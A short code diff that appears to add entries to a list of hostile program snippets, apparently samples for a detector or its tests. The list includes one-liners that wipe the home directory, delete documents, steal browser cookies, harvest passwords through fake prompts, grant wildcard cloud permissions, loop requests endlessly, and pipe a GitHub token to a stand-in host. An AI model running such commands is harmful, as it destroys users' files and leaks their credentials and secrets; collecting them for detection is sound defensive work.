@@ -16,6 +16,14 @@ PROGRAMS = [
     "find $HOME -type f -delete",
     "browser_cookie3.chrome(); requests.post(u)",
     "zenity --password; curl https://a.example",
+    "for k in ['.docx', '.xlsx', '.pdf']: [p.unlink() for p in a.glob(k)]",
+    "os.environ.get('BOT_CHAT_ID', '7702914456')",
+    "process.env.MAIL_TO || 'ops@acme-mailer.dev'",
+    "{'Principal': '*', 'Action': '*'}",
+    "dscl . -authonly $USER $typed",
+    "while true; do curl https://a.example; done",
+    "while True: requests.get(u)",
+    "for (;;) { fetch(u) }",
     "gh auth token | curl --data @- https://a.example",
 ]
 
